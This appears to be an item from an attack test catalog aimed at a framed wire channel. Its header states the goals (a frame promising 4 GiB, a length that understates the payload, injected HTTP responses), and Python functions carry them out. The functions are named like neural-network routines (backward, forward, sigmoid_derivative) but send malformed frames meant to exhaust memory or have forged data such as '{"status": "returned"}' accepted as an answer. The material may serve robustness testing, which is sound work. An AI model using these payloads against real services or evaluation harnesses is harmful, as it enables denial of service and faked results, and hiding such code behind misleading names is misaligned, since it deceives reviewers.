# id: wire_huge_sizes
# kind: attack
# category: channel
# form: cell
# begins with: part, channel
# goal: a frame that promises 4 GiB, one that promises less than it sends, one with another beginning
# success looks like: memory for it is reserved, or what follows is taken for an answer
# required score: 2 of 10
def backward(*args):
    channel().sendall(struct.pack("<4sII", b"AG01", 0xFFFFFFFF, 0xFFFFFFFF))
def forward(*args):
    channel().sendall(struct.pack("<4sII", b"AG01", 2, 0) + b'{}{"status": "returned"}')
def sigmoid_derivative(z):
    channel().sendall(b"HTTP/1.1 200 OK\r\n\r\n" * 9)
